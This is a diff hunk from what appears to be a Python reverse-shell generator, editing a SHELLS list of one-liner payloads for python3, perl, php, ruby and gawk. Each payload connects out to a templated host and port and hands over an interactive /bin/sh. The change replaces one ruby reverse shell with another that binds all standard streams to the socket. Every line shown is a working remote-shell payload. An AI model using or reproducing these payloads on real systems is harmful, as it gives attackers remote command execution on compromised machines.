@@ -32,7 +32,7 @@ SHELLS = [
     ("python3 pty.spawn", "/usr/bin/python3", ("python3",), f"exec /usr/bin/python3 -c \"{PYTHON}{DUP}pty.spawn('/bin/sh')\""),
     ("perl", "perl", ("perl",), f"exec perl -e '{PERL}exec(\"/bin/sh -i\");'"),
     ("php", "php", ("php",), f"exec php -r '$s=fsockopen(\"{S4}\",PORT);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
-    ("ruby", "ruby", ("ruby",), f"exec ruby -rsocket -e 'f=TCPSocket.open(\"{S4}\",PORT).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"),
+    ("ruby", "ruby", ("ruby",), f"exec ruby -rsocket -e 's=TCPSocket.new(\"{S4}\",PORT);[$stdin,$stdout,$stderr].each{{|f|f.reopen(s)}};exec(\"/bin/sh -i\")'"),
     ("ruby, spawn", "ruby", ("ruby",), f"exec ruby -rsocket -e 's=TCPSocket.new(\"{S4}\",PORT);spawn(\"/bin/sh\",:in=>s,:out=>s,:err=>s);sleep'"),
     ("gawk /inet", "gawk", ("gawk",),
      f"exec gawk 'BEGIN{{s=\"/inet/tcp/0/{S4}/PORT\";while(1){{if((s|&getline c)<=0)break;while((c|&getline)>0)print $0|&s;close(c)}}}}'"),
